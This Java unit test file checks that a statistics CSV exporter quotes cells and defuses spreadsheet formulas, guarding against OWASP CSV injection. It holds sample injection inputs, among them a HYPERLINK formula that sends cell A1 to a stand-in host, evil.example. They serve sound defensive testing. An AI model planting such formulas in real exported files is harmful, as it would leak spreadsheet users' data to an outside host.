package gx.zhicheng.documents;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The CSV's cells: quoted where CSV needs it, and never a formula (OWASP CSV injection). */
class StatisticsCsvTest {

    @ParameterizedTest(name = "[{0}] -> [{1}]")
    @CsvSource(delimiter = '|', quoteCharacter = '`', value = {
            "ENGINEERING                     | ENGINEERING",
            "江州区职改办                      | 江州区职改办",
            "`=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")` | `\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"`",
            "=1+1                            | `\"'=1+1\"`",
            "+1                              | `\"'+1\"`",
            "-1                              | `\"'-1\"`",
            "@SUM(A1)                        | `\"'@SUM(A1)\"`",
            "`a,b`                           | `\"a,b\"`",
            "`a\"b`                          | `\"a\"\"b\"`",
            "1-2                             | 1-2",
    })
    void neutralisesFormulasAndQuotesWhatCsvNeeds(String value, String cell) {
        assertThat(StatisticsCsv.field(value)).isEqualTo(cell);
    }

    @Test
    void neutralisesATabOrACarriageReturnAtTheStart() {
        assertThat(StatisticsCsv.field("\t=1+1")).isEqualTo("\"'\t=1+1\"");
        assertThat(StatisticsCsv.field("\r=1+1")).isEqualTo("\"'\r=1+1\"");
        assertThat(StatisticsCsv.field(null)).isEmpty();
        assertThat(StatisticsCsv.field("")).isEmpty();
    }

    @Test
    void aSeriesThatIsAFormulaIsWrittenAsText() {
        String series = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
        Statistics s = new Statistics(2022, null, null, 1, List.of(new Statistics.Count("PASS", "通过", 1)), List.of(),
                List.of(new Statistics.Count(series, series, 1)), List.of(new Statistics.Count(null, "-江州区", 1)), 0, null);

        String csv = StatisticsCsv.write(s);

        assertThat(csv).contains("\r\n系列,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","
                + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",1\r\n");
        assertThat(csv).contains("\r\n预审单位,,\"'-江州区\",1\r\n");
        assertThat(csv.lines()).noneMatch(line -> line.contains(",=") || line.contains(",+") || line.contains(",@"));
    }
}
